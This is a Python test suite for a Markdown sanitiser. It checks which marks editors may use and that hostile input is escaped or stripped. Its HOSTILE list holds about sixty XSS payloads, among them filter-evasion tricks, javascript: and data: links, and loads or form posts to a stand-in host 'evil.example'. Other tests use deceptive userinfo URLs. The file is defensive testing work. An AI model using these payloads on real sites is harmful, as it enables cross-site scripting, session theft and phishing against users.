"""What editors may write as Markdown, and what becomes of everything else."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import escape

from masa.pages.prose import MOST_BRACKETS, PAGE_TAGS, TAGS, line, plain, prose, sanitise_page

SMALL = {"p", "ul", "ol", "li", "em", "strong", "a", "blockquote", "br", "code"}


class Tags(HTMLParser):
    """Every tag with its attributes, as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_decl(self, decl: str) -> None:
        self.found.append((f"!{decl}", {}))

    def handle_comment(self, data: str) -> None:
        self.found.append((f"!--{data}", {}))


def dangers(html: str) -> list[str]:
    """Everything in the HTML that prose may not hold."""
    found = []
    for tag, attributes in Tags(html).found:
        if tag not in {*SMALL, "wbr"}:
            found.append(f"<{tag}>")
        for name, value in attributes.items():
            # A browser leaves these out, wherever they stand, and what it cannot see at the start.
            address = re.sub(r"[\t\n\r]|^[\x00-\x20]+", "", value or "").lower()
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", address)
            if (tag, name) != ("a", "href"):
                found.append(f"<{tag} {name}>")
            elif scheme and scheme[1] not in ("http", "https", "mailto", "tel"):
                found.append(address)
    return found


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Plain words.", "<p>Plain words.</p>"),
        ("One.\n\nTwo.", "<p>One.</p>\n<p>Two.</p>"),
        ("*a* and **b**", "<p><em>a</em> and <strong>b</strong></p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>"),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
        ("`a`", "<p><code>a</code></p>"),
        ("a  \nb", "<p>a<br>\nb</p>"),
        ("[a](https://example.org/)", '<p><a href="https://example.org/">a</a></p>'),
        ("[a](mailto:a@example.org)", '<p><a href="mailto:a@example.org">a</a></p>'),
        ("[a](tel:999)", '<p><a href="tel:999">a</a></p>'),
        (
            "<https://example.org/>",
            '<p><a href="https://example.org/">https://example.org/</a></p>',
        ),
        ("Smith & Jones <Ltd>", "<p>Smith &amp; Jones &lt;Ltd&gt;</p>"),
        ("&amp;", "<p>&amp;</p>"),
        ("", "<p></p>"),
    ],
)
def test_the_small_set_of_marks(text: str, html: str) -> None:
    assert prose(text) == html
    assert dangers(html) == []


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# Heading", "<p># Heading</p>"),
        ("Heading\n---", "<p>Heading\n---</p>"),
        ("Heading\n===", "<p>Heading\n===</p>"),
        ("---", "<p>---</p>"),
        ("![a](https://example.org/a.png)", "<p>![a](https://example.org/a.png)</p>"),
        ("a {: #b .c onclick=d }", "<p>a {: #b .c onclick=d }</p>"),
        ("|a|\n|-|\n|b|", "<p>|a|\n|-|\n|b|</p>"),
        ("[TOC]", "<p>[TOC]</p>"),
        ("    indented", "<p>    indented</p>"),
    ],
)
def test_marks_beyond_the_small_set_are_the_text_they_are(text: str, html: str) -> None:
    assert prose(text) == html


#: Each would do harm in a page that printed it as it is.
HOSTILE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<<script>script>alert(1)</script>",
    "a <b onmouseover=alert(1)>b</b>",
    '<p style="position:fixed">a</p>',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>a</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>a</a>",
    "<form action=//evil.example><input name=a></form>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<object data=x></object><embed src=x>",
    "<!-- hidden -->",
    "<!DOCTYPE html>",
    "<![CDATA[ a ]]>",
    "<?php echo 1 ?>",
    "</p></section><script>alert(1)</script>",
    "<p markdown='1'><script>alert(1)</script></p>",
    "`</code><script>alert(1)</script>`",
    "```\n</code><script>alert(1)</script>\n```",
    "> - <script>alert(1)</script>",
    "- a\n    - **<script>alert(1)</script>**",
    "*<em onclick=a>*",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](java\tscript:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](java&#9;script:alert(1))",
    "[a](java&#10;script:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](&#0000106avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](vbscript:msgbox)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](file:///etc/hostname)",
    "[a](blob:https://example.org/x)",
    "<javascript:alert(1)>",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "[a][b]\n\n[b]: data:text/html,x",
    "[b]\n\n[b]: <javascript:alert(1)>",
    "![a](javascript:alert(1))",
    "![a][b]\n\n[b]: javascript:alert(1)",
    "[![a](x onerror=b)](javascript:alert(1))",
    '[a](https://example.org "b\\" onclick=\\"alert(1)")',
    "[a](https://example.org 'b' onclick=alert(1))",
    '[a](https://example.org"onclick="alert(1))',
    "[a][b]\n\n[b]: https://example.org 'c\" onclick=\"alert(1)'",
    "[<script>](https://example.org)",
    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("around", ["{}", "Before *it* {} and after", "- a\n- {}", "> {}"])
def test_nothing_hostile_gets_through(text: str, around: str) -> None:
    written = around.format(text)
    assert dangers(prose(written)) == []
    assert dangers(line(written)) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_plain_words_are_escaped_when_they_are_printed(text: str) -> None:
    assert type(plain(text)) is str
    assert dangers(escape(plain(text))) == []


@given(st.text(alphabet=" \n\t<>&\"'`*_[]()!#-=:/\\{}.;abjx01", max_size=60))
def test_no_mixture_of_marks_gets_through(text: str) -> None:
    assert dangers(prose(text)) == []


def test_a_danger_is_found_when_there_is_one() -> None:
    assert dangers("<script>") == ["<script>"]
    assert dangers("<p onclick=a>") == ["<p onclick>"]
    assert dangers('<a href="java\tscript:a">') == ["javascript:a"]
    assert dangers("<!-- a -->") == ["<!-- a >"]
    assert TAGS == SMALL


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a *b*", "a <em>b</em>"),
        ("a", "a"),
        ("One.\n\nTwo.", "<p>One.</p>\n<p>Two.</p>"),
        ("- a", "<ul>\n<li>a</li>\n</ul>"),
    ],
)
def test_a_line_has_no_paragraph_of_its_own(text: str, html: str) -> None:
    assert line(text) == html


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("*a* [b](https://example.org)", "a b"),
        ("One.\n\n- Two\n- Three", "One. Two Three"),
        ("Smith & Jones", "Smith & Jones"),
        ("<b>", "<b>"),
    ],
)
def test_plain_words(text: str, words: str) -> None:
    assert plain(text) == words


@pytest.mark.parametrize(
    "text",
    ["[" * 20_000, "[a](" * 5_000, "- " * 5_000 + "a", "1. " * 5_000 + "a", "> " * 9_000 + "a"],
    ids=["brackets", "links", "lists", "numbers", "quotations"],
)
def test_a_tangle_is_printed_as_text(text: str) -> None:
    html = prose(text)
    assert dangers(html) == []
    assert len(html) >= len(text) / 8


LONG = "northmere.frontdoor@example.org"


@pytest.mark.parametrize(
    ("text", "html"),
    [
        (f"Write to {LONG}.", "<p>Write to northmere.frontdoor<wbr>@example.org.</p>"),
        ("Write to team@example.org.", "<p>Write to team@example.org.</p>"),
        (f"[Write](mailto:{LONG})", f'<p><a href="mailto:{LONG}">Write</a></p>'),
        (f"**{LONG}**", "<p><strong>northmere.frontdoor<wbr>@example.org</strong></p>"),
    ],
)
def test_a_long_email_address_breaks_before_its_at_and_never_in_a_link(
    text: str, html: str
) -> None:
    assert prose(text) == html
    assert plain(text) in {text, "Write", LONG}


def test_as_many_links_as_a_person_writes_are_links() -> None:
    text = " ".join("[a](https://example.org)" for _ in range(MOST_BRACKETS))
    assert prose(text).count("<a href=") == MOST_BRACKETS


@pytest.mark.parametrize(
    ("html", "left"),
    [
        ('<h2 id="a" class="b" title="c">d</h2>', '<h2 id="a">d</h2>'),
        ("<table><tr><td colspan=2 onclick=a>b</td></tr></table>", "<td>b</td>"),
        ("<p>a<script>alert(1)</script></p>", "<p>a</p>"),
        ('<a href="javascript:a" target="_blank">b</a>', "<a>b</a>"),
        ('<img src="x" alt="a">', ""),
        ('<div class="danger">a</div>', "a"),
    ],
)
def test_pages_written_by_hand_may_hold_a_little_more(html: str, left: str) -> None:
    assert left in sanitise_page(html)
    tags = {tag for tag, _ in Tags(sanitise_page(html)).found}
    assert tags <= PAGE_TAGS
    assert {"script", "style", "img", "iframe", "form", "div", "svg"} & PAGE_TAGS == set()


@pytest.mark.parametrize(
    "address",
    [
        "https://www.example.gov.uk@example.org/",
        "https://user:password@example.org/",
        "//www.example.gov.uk@example.org/",
        "https:/\\www.example.gov.uk@example.org/",
        "HTTP://www.example.gov.uk%2f@example.org/",
    ],
)
def test_no_link_seems_to_lead_elsewhere_than_it_does(address: str) -> None:
    for made in (prose(f"[a](<{address}>)"), sanitise_page(f'<a href="{address}">a</a>')):
        assert "<a>a</a>" in made


@pytest.mark.parametrize("address", ["mailto:a@example.org", "https://example.org/@a?b=c@d#e@f"])
def test_an_at_sign_may_stand_where_no_name_stands(address: str) -> None:
    assert f'href="{address}"' in prose(f"[a]({address})")


@pytest.mark.parametrize(
    "text",
    ["a" + "\n" * 19_990 + "b", "a@a." * 4_990, "a " * 9_990, "- a\n\n\n" * 3_990],
    ids=["empty lines", "half an address", "spaces", "points"],
)
def test_no_text_takes_long(text: str) -> None:
    start = process_time()
    prose(text)
    assert process_time() - start < 1


@given(st.text(alphabet=st.sampled_from(" \t\r-+1.)a'\"@&<*:é"), max_size=40))
def test_the_words_are_those_of_the_paragraphs(text: str) -> None:
    assert plain(text) == prose(text).striptags()
